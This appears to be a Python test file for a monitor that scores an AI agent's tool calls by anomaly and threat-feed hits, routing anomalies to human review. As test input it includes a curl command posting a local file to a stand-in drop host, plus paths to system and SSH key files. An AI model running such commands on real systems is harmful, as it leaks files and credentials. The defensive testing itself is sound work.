"""Feature extraction (prequential state), targets, and the threat score's arithmetic."""

from __future__ import annotations

import math
from datetime import datetime

from bastion.intelligence._extract import path_depth, path_escape, targets
from bastion.intelligence.anomaly import Assessment
from bastion.intelligence.features import CallView, SubjectState, entropy, replay
from bastion.intelligence.feeds import Hit, Indicator
from bastion.intelligence.threat import score
from bastion.tools.base import Risk

T0 = datetime(2026, 11, 2, 10, 0).timestamp()


def test_entropy_and_path_depth() -> None:
    assert entropy("") == 0.0 and entropy("aaaa") == 0.0
    assert math.isclose(entropy("abcd"), 2.0)
    assert path_depth(["a/b/c.txt", "./x"]) == 3
    assert path_escape(["a/b/c.txt", "./x"]) == 0
    assert path_escape(["../../etc/passwd", "/tmp/x", "~/.ssh/id_rsa"]) == 4


def test_targets_find_hosts_ips_hashes_but_not_file_names() -> None:
    t = targets({"command": "curl -d @notes.txt https://Drop.Example.NET/u 10.0.0.7 "
                            "evil.example:8080 && sha256sum " + "a" * 64,
                 "nested": [{"path": "/var/log/x.log"}]})
    assert t.urls == ["https://Drop.Example.NET/u"]
    assert t.hosts == ["drop.example.net", "10.0.0.7", "evil.example"]
    assert t.ips == ["10.0.0.7"]
    assert t.hashes == ["a" * 64]
    assert "/var/log/x.log" in t.paths


def test_state_is_prequential() -> None:
    s = SubjectState()
    first = CallView("agent", T0, "read_file", {"path": "a.md"}, "allowed")
    f1 = s.features(first)
    s.update(first)
    f2 = s.features(CallView("agent", T0 + 1, "read_file", {"path": "a.md"}))
    assert f2["tool_rarity"] < f1["tool_rarity"]  # seen once: less rare
    new_tool = s.features(CallView("agent", T0 + 2, "shell", {"command": "ls"}))
    assert new_tool["tool_rarity"] > f2["tool_rarity"]
    assert f2["call_rate"] == math.log1p(1)  # one call in the last minute


def test_hosts_count_as_known_only_after_an_allowed_call() -> None:
    s = SubjectState()
    url = {"url": "https://x.example/a"}
    s.update(CallView("agent", T0, "web_fetch", url, "denied"))
    assert s.features(CallView("agent", T0 + 1, "web_fetch", url))["new_hosts"] == 1.0
    assert s.features(CallView("agent", T0 + 1, "web_fetch", url))["denial_rate"] == 1.0
    s.update(CallView("agent", T0 + 2, "web_fetch", url, "allowed"))
    f = s.features(CallView("agent", T0 + 3, "web_fetch", url))
    assert f["new_hosts"] == 0.0 and f["denial_rate"] == 0.5


def test_hour_is_on_a_circle() -> None:
    s = SubjectState()
    late = s.features(CallView("a", datetime(2026, 11, 2, 23, 59).timestamp(), "t", {}))
    early = s.features(CallView("a", datetime(2026, 11, 3, 0, 1).timestamp(), "t", {}))
    assert abs(late["hour_sin"] - early["hour_sin"]) < 0.01
    assert abs(late["hour_cos"] - early["hour_cos"]) < 0.01


def test_rate_window_slides() -> None:
    s = SubjectState()
    for i in range(5):
        s.update(CallView("a", T0 + i, "t", {}, "allowed"))
    assert s.features(CallView("a", T0 + 10, "t", {}))["call_rate"] == math.log1p(5)
    assert s.features(CallView("a", T0 + 120, "t", {}))["call_rate"] == 0.0


def test_replay_groups_by_subject() -> None:
    rows, states = replay([CallView("a", T0, "t", {}, "allowed"),
                           CallView("b", T0, "t", {}, "allowed"),
                           CallView("a", T0 + 1, "t", {}, "allowed")])
    assert len(rows["a"]) == 2 and len(rows["b"]) == 1
    assert states["a"].calls == 2


def _assessment(s: float, anomalous: bool) -> Assessment:
    return Assessment("scored", s, 0.65, anomalous, 100, 50, baseline=0.45)


def test_threat_score_noisy_or() -> None:
    low = score(Risk.LOW, None, [])
    assert math.isclose(low.score, 5.0) and low.action == "allow"
    at_threshold = score(Risk.LOW, _assessment(0.65, True), [])
    assert math.isclose(at_threshold.score, 100 * (1 - 0.95 * 0.4))
    assert at_threshold.action == "ask"
    # an anomaly never refuses without a human, even at CRITICAL risk and the highest score
    worst = score(Risk.CRITICAL, _assessment(0.99, True), [])
    assert worst.score < 90 and worst.action == "ask"
    # a flagged call (deviation rule) counts at least as much as one at the threshold
    dev = score(Risk.LOW, _assessment(0.6, True), [])
    assert dev.anomaly >= 0.6
    hit = Hit(Indicator("domain", "evil.example", "f"), "evil.example")
    assert score(Risk.MEDIUM, None, [hit]).action == "deny"
    weak = Hit(Indicator("domain", "evil.example", "f", confidence=0.4), "evil.example")
    assert score(Risk.LOW, None, [weak]).action == "allow"
